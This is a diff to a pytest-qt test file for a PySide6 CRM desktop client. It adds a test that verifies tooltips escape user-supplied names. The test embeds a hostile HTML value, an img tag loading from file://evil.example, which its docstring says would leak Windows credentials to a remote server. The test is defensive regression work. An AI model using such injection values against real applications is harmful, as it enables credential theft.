@@ -5,7 +5,7 @@ from __future__ import annotations
 from datetime import UTC, datetime
 
 from PySide6.QtCore import Qt
-from PySide6.QtGui import QAction, QKeySequence
+from PySide6.QtGui import QAction, QKeySequence, QTextDocument
 from PySide6.QtTest import QTest
 from PySide6.QtWidgets import QWidget
 from pytestqt.qtbot import QtBot
@@ -14,8 +14,10 @@ from crm_desktop.desktop.core import accessibility
 from crm_desktop.desktop.core.live import FeedState
 from crm_desktop.desktop.core.look import Look, Role
 from crm_desktop.desktop.core.theme import Tone
+from crm_desktop.desktop.screens.workspace.card_head import CardHead, Said
+from crm_desktop.desktop.widgets.attachments import AttachedFile, FileChip
 from crm_desktop.desktop.widgets.banner import Banner, ErrorBar, UndoToast
-from crm_desktop.desktop.widgets.buttons import Button, PrimaryButton, key_text
+from crm_desktop.desktop.widgets.buttons import Button, IconButton, PrimaryButton, key_text
 from crm_desktop.desktop.widgets.chips import Chip, ChipButton, FilterChips
 from crm_desktop.desktop.widgets.key_values import KeyValueGrid
 from crm_desktop.desktop.widgets.pill import Pill
@@ -53,6 +55,23 @@ def test_a_button_of_a_command_follows_it(look: Look, qtbot: QtBot) -> None:
     assert button.accessibleDescription() == "Shortcut F9"
     assert not button.isEnabled()
     assert len(ran) == 1
+
+
+def test_what_others_wrote_is_no_html_in_a_tooltip(look: Look, qtbot: QtBot) -> None:
+    """Qt would load what a name says: on Windows from a stranger's server, with the password."""
+    hostile = '<img src="file://evil.example/share/x.png">Margaret & <b>Co</b>'
+    line = ElidedText(look, hostile)
+    line.resize(40, 20)
+    shown(line, qtbot)
+    line.grab()
+    head = CardHead(look)
+    head.say(Said(hostile, "", None, "09:12", "27 Nov 2026", note=False))
+    file = AttachedFile("1", hostile, "image/png", 1)
+    chip = FileChip(look, file, removable=False, parent=line)
+    for each in (line, head, chip, IconButton(look, "x", hostile)):
+        page = QTextDocument()
+        page.setHtml(each.toolTip())
+        assert page.toPlainText().partition("\n")[0] == hostile
 
 
 def test_a_button_grows_with_the_font(look: Look, qtbot: QtBot) -> None:
